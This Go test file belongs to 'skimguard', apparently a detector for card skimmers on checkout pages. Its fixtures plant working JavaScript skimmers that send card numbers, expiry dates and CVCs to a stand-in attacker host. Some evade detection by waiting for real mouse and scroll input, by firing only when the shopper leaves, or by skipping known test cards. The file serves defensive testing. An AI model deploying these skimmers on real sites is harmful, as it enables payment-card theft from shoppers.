package e2e

import (
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	skimguard "github.com/skimguard/skimguard"
	"github.com/skimguard/skimguard/carddata"
	"github.com/skimguard/skimguard/crawler"
)

// tallDirect is the direct card form on a page long enough to scroll, as
// checkouts with a basket and terms are.
func tallDirect(p *page) {
	p.Direct = true
	p.Body = `<div style="height:2400px">Terms and conditions</div>`
}

// skipTestCards is what kits run before stealing: known test cards (and
// skimguard's own old fixed card) are dropped, so a monitor that types
// one sees nothing.
const skipTestCards = `var known = ['4111111111111111', '4242424242424242', '4000056655665556', '5555555555554444', '5105105105105100',
  '4012888888881881', '4005519200000004', '4009348888881881', '4012000033330026', '4217651111111119', '4500600000000061',
  '2223000048400011', '4929386160871730'];
function isTest(n) { n = n.replace(/\D/g, ''); return known.indexOf(n) >= 0 || /^(400000|411111|424242)/.test(n); }`

// visitTechniques are the kits that wait for the shopper's whole visit: a
// person's hands, the departure, a real-looking card, or parts of it.
func visitTechniques() []*technique {
	return []*technique{
		{
			name: "human-gated-loader", threat: "loader that fetches the skimmer only after trusted mouse moves and a scroll (bot-evading kits)",
			base: tallDirect,
			plant: func(p *page) {
				p.Body += script(`(function () {
  var moved = 0, scrolled = false, done = false;
  function go() {
    if (done || moved < 3 || !scrolled) return;
    done = true;
    var s = document.createElement('script'); s.src = '` + p.EvilBase + `/h.js'; document.head.appendChild(s);
  }
  addEventListener('mousemove', function (e) { if (e.isTrusted) { moved++; go(); } });
  addEventListener('scroll', function (e) { if (e.isTrusted) { scrolled = true; go(); } });
})();`)
				p.EvilFiles["/h.js"] = skim(`new Image().src = '` + p.EvilBase + `/h.gif?d=' + encodeURIComponent(btoa(s)); sent = true;`)
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
			subjects: []string{"/h.js"},
		},
		{
			name: "exit-beacon", threat: "keeps what is typed and sends it with sendBeacon only when the page is hidden or left (visibilitychange, pagehide)",
			base: direct,
			plant: func(p *page) {
				p.Body = script(`(function () {
  var d = {};
  document.addEventListener('input', function (e) { if (e.target.name) d[e.target.name] = e.target.value; }, true);
  function out(why) { if (!d['cc-number']) return; navigator.sendBeacon('` + p.EvilBase + `/x?' + why, JSON.stringify(d)); }
  document.addEventListener('visibilitychange', function () { if (document.visibilityState === 'hidden') out('hidden'); });
  addEventListener('pagehide', function () { out('pagehide'); });
})();`)
			},
			want: []skimguard.Kind{skimguard.KindDataExfiltration},
		},
		{
			name: "skips-test-cards", threat: "skips known test cards (4111…, Stripe's and Braintree's, skimguard's own) and steals real-looking ones",
			base: direct,
			plant: func(p *page) {
				p.Body = script(skipTestCards + skim(`if (isTest(d['cc-number'])) { sent = true; return; }
    new Image().src = '`+p.EvilBase+`/k.gif?d=' + encodeURIComponent(s); sent = true;`))
			},
			want: []skimguard.Kind{skimguard.KindDataExfiltration},
		},
		{
			name: "bin-last4-only", threat: "sends only the first six and last four digits of the number",
			base: direct,
			plant: func(p *page) {
				p.Body = script(skim(`var n = d['cc-number'].replace(/\D/g, '');
    new Image().src = '` + p.EvilBase + `/b.gif?bin=' + n.slice(0, 6) + '&l4=' + n.slice(-4); sent = true;`))
			},
			want: []skimguard.Kind{skimguard.KindDataExfiltration},
		},
		{
			name: "expiry-cvc-only", threat: "sends only the expiry and the CVC",
			base: direct,
			plant: func(p *page) {
				p.Body = script(skim(`if (!d['cc-csc'] || d['cc-csc'].length < 3 || !d['cc-exp'] || d['cc-exp'].length < 5) return;
    fetch('` + p.EvilBase + `/e', {method: 'POST', body: JSON.stringify({e: d['cc-exp'], c: d['cc-csc']})}); sent = true;`))
			},
			want: []skimguard.Kind{skimguard.KindDataExfiltration},
		},
	}
}

// TestSkimmerThatSkipsTestCardsStaysQuietForThem: the kit that fires for
// the canary (TestTechniquesAreCaughtAndCleanPagesStaySilent) sends
// nothing when a browser types a published test card or skimguard's old
// fixed card, which is why every scan types a fresh canary.
func TestSkimmerThatSkipsTestCardsStaysQuietForThem(t *testing.T) {
	browser(t)
	tests := []carddata.Card{
		carddata.Test(),
		{Number: "4111111111111111", ExpMonth: "12", ExpYear: "30", CVC: "123", Name: "Test User"},
		{Number: "4242424242424242", ExpMonth: "12", ExpYear: "30", CVC: "123", Name: "Test User"},
	}
	next := make(chan carddata.Card, len(tests)+1)
	for _, c := range tests {
		next <- c
	}
	next <- typed.next()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	cr, err := crawler.New(ctx, crawler.Options{DefaultWait: 2 * time.Second, MaxConcurrent: 1, Card: func() carddata.Card { return <-next }})
	if err != nil {
		t.Fatal(err)
	}
	defer cr.Close()
	w := newWorld(t)
	tc := visitTechniques()[slices.IndexFunc(visitTechniques(), func(tc *technique) bool { return tc.name == "skips-test-cards" })]
	w.add(tc)
	w.plant(tc.name, true)
	p := skimguard.Page{Site: "e2e", Name: tc.name, URL: w.checkoutURL(tc), Wait: 2 * time.Second, Interact: true}
	for _, c := range tests {
		before := len(w.received(tc.name))
		if o := scan(t, cr, p); !o.Typed {
			t.Fatalf("card %s…: nothing typed", c.Number[:6])
		}
		time.Sleep(500 * time.Millisecond)
		for _, b := range w.received(tc.name)[before:] {
			if _, ok := c.Find(b); ok || strings.Contains(string(b), "k.gif") {
				t.Errorf("card %s…: the kit sent it: it must skip test cards, or this test proves nothing", c.Number[:6])
			}
		}
	}
	// The same browser and page, with a canary: the kit fires.
	before := len(w.received(tc.name))
	o := scan(t, cr, p)
	w.mustHaveFired(t, tc, before, 1)
	if !slices.ContainsFunc(o.Leaks, func(l skimguard.Leak) bool { return strings.Contains(l.URL, "k.gif") }) {
		t.Errorf("the canary's theft was not seen: leaks %+v", o.Leaks)
	}
}
